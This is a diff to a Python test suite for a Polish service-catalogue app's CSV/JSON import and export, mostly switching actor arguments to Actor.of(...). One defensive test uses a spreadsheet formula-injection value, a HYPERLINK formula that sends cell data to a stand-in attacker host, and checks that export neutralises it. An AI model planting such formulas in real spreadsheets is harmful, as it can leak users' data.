@@ -17,6 +17,7 @@ from hypothesis import strategies as st
 from kierunek.catalogue import importexport, services
 from kierunek.catalogue.domain import SessionInput, card_problems
 from kierunek.catalogue.models import ServiceCard
+from kierunek.core.actor import Actor
 from kierunek.core.csvsafe import FORMULA_STARTS
 from kierunek.core.models import AuditEvent
 from tests.catalogue.test_cards import START, card_input
@@ -71,7 +72,7 @@ def test_csv_rows_become_drafts(provider):
         [row(), row(title="Język angielski B2", gmina="1263011", street="ul. Wałowa 1")], delimiter=";"
     )
     result = importexport.cards_import(
-        provider=provider, content=content, filename="uslugi.csv", actor=provider_staff_of(provider)
+        provider=provider, content=content, filename="uslugi.csv", actor=Actor.of(provider_staff_of(provider))
     )
     assert len(result.created) == 2
     card = ServiceCard.objects.get(title="Język angielski B2")
@@ -90,7 +91,10 @@ def test_one_bad_row_stops_the_whole_file_and_every_problem_is_reported(provider
     ]
     with pytest.raises(importexport.ImportRefused) as refused:
         importexport.cards_import(
-            provider=provider, content=as_csv(rows), filename="u.csv", actor=provider_staff_of(provider)
+            provider=provider,
+            content=as_csv(rows),
+            filename="u.csv",
+            actor=Actor.of(provider_staff_of(provider)),
         )
     problems = {(e.row, e.column) for e in refused.value.errors}
     assert {(2, "price_gross"), (3, "gmina"), (4, "sessions"), (5, "title")} <= problems
@@ -104,7 +108,7 @@ def test_a_json_file_with_bad_rows_writes_nothing_and_reports_every_row(provider
             provider=provider,
             content=json.dumps(rows).encode(),
             filename="u.json",
-            actor=provider_staff_of(provider),
+            actor=Actor.of(provider_staff_of(provider)),
         )
     problems = {(e.row, e.column) for e in refused.value.errors}
     assert {(2, "hours"), (3, "hours"), (4, "title")} <= problems
@@ -119,7 +123,7 @@ def test_a_csv_row_with_more_cells_than_the_header_is_a_row_error(provider):
             provider=provider,
             content="\n".join(content).encode("utf-8"),
             filename="u.csv",
-            actor=provider_staff_of(provider),
+            actor=Actor.of(provider_staff_of(provider)),
         )
     assert [(e.row, e.column) for e in refused.value.errors] == [(2, "")]  # the second service
     assert not ServiceCard.objects.exists()
@@ -141,7 +145,7 @@ def test_duplicates_inside_the_file_are_refused(provider):
             provider=provider,
             content=as_csv([row(), row()]),
             filename="u.csv",
-            actor=provider_staff_of(provider),
+            actor=Actor.of(provider_staff_of(provider)),
         )
     assert [(e.row, e.column) for e in refused.value.errors] == [(2, "title")]
     assert not ServiceCard.objects.exists()
@@ -160,14 +164,14 @@ def test_duplicates_inside_the_file_are_refused(provider):
 def test_unreadable_files_are_explained(provider, filename, content):
     with pytest.raises(importexport.ImportRefused) as refused:
         importexport.cards_import(
-            provider=provider, content=content, filename=filename, actor=provider_staff_of(provider)
+            provider=provider, content=content, filename=filename, actor=Actor.of(provider_staff_of(provider))
         )
     assert refused.value.errors[0].message
 
 
 def test_export_then_import_gives_the_same_cards(provider):
     staff = provider_staff_of(provider)
-    services.card_create(provider=provider, data=card_input(), actor=staff)
+    services.card_create(provider=provider, data=card_input(), actor=Actor.of(staff))
     services.card_create(
         provider=provider,
         data=card_input(
@@ -177,13 +181,13 @@ def test_export_then_import_gives_the_same_cards(provider):
             street="",
             technical_requirements="Komputer.",
         ),
-        actor=staff,
+        actor=Actor.of(staff),
     )
     other = ProviderFactory()
     for fmt, export in (("csv", importexport.cards_export_csv), ("json", importexport.cards_export_json)):
         content = export(provider=provider).encode()
         result = importexport.cards_import(
-            provider=other, content=content, filename=f"u.{fmt}", actor=provider_staff_of(other)
+            provider=other, content=content, filename=f"u.{fmt}", actor=Actor.of(provider_staff_of(other))
         )
         originals = {
             (c.title, c.price_gross, c.starts_on, c.gmina_id, c.sessions.count())
@@ -251,7 +255,7 @@ def test_a_card_with_quotes_commas_and_semicolons_in_its_text_imports_again(prov
             goal='Cel: "tabele przestawne",\nformuły; wykresy.',
             sessions=(SessionInput(START, time(9), time(17), 'sala "A"; piętro 2, wejście C:\\B'),),
         ),
-        actor=staff,
+        actor=Actor.of(staff),
     )
     other = ProviderFactory()
 
@@ -259,7 +263,7 @@ def test_a_card_with_quotes_commas_and_semicolons_in_its_text_imports_again(prov
         provider=other,
         content=importexport.cards_export_csv(provider=provider).encode(),
         filename="u.csv",
-        actor=provider_staff_of(other),
+        actor=Actor.of(provider_staff_of(other)),
     )
 
     assert [_text_of(copy) for copy in result.created] == [_text_of(card)]
@@ -269,7 +273,7 @@ def test_a_semicolon_file_with_doubled_quotes_and_commas_is_read_by_rfc_4180(pro
     content = as_csv([row(title='Kurs "Excel", poziom 1', goal="Tabele, wykresy, formuły.")], delimiter=";")
 
     result = importexport.cards_import(
-        provider=provider, content=content, filename="u.csv", actor=provider_staff_of(provider)
+        provider=provider, content=content, filename="u.csv", actor=Actor.of(provider_staff_of(provider))
     )
 
     assert [(c.title, c.goal) for c in result.created] == [
@@ -282,7 +286,7 @@ def test_the_exported_file_has_no_cell_a_spreadsheet_runs_and_imports_to_the_for
     services.card_create(
         provider=provider,
         data=card_input(title='=HYPERLINK("http://zły.example/?"&A1)', goal="@SUM(1+1)", street="-2+3"),
-        actor=staff,
+        actor=Actor.of(staff),
     )
     exported = importexport.cards_export_csv(provider=provider)
     cells = [
@@ -295,7 +299,7 @@ def test_the_exported_file_has_no_cell_a_spreadsheet_runs_and_imports_to_the_for
     assert '\'=HYPERLINK("http://zły.example/?"&A1)' in cells
     other = ProviderFactory()
     (copy,) = importexport.cards_import(
-        provider=other, content=exported.encode(), filename="u.csv", actor=provider_staff_of(other)
+        provider=other, content=exported.encode(), filename="u.csv", actor=Actor.of(provider_staff_of(other))
     ).created
     assert (copy.title, copy.goal, copy.street) == (
         '=HYPERLINK("http://zły.example/?"&A1)',
@@ -313,7 +317,7 @@ def test_a_badly_quoted_file_is_refused_with_its_line_in_polish_and_english(prov
                 provider=provider,
                 content="\n".join(content).encode(),
                 filename="u.csv",
-                actor=provider_staff_of(provider),
+                actor=Actor.of(provider_staff_of(provider)),
             )
         assert [(e.row, e.column) for e in refused.value.errors] == [(2, "")]
         assert words in refused.value.errors[0].message
@@ -379,11 +383,14 @@ def cards(draw):
 def test_export_then_import_round_trips_any_text_in_every_text_field(provider, data):
     other = ProviderFactory()
     with transaction.atomic():
-        card = services.card_create(provider=provider, data=data, actor=provider_staff_of(provider))
+        card = services.card_create(provider=provider, data=data, actor=Actor.of(provider_staff_of(provider)))
         exported = importexport.cards_export_csv(provider=provider)
 
         (copy,) = importexport.cards_import(
-            provider=other, content=exported.encode(), filename="u.csv", actor=provider_staff_of(other)
+            provider=other,
+            content=exported.encode(),
+            filename="u.csv",
+            actor=Actor.of(provider_staff_of(other)),
         ).created
 
         assert _text_of(copy) == _text_of(card)
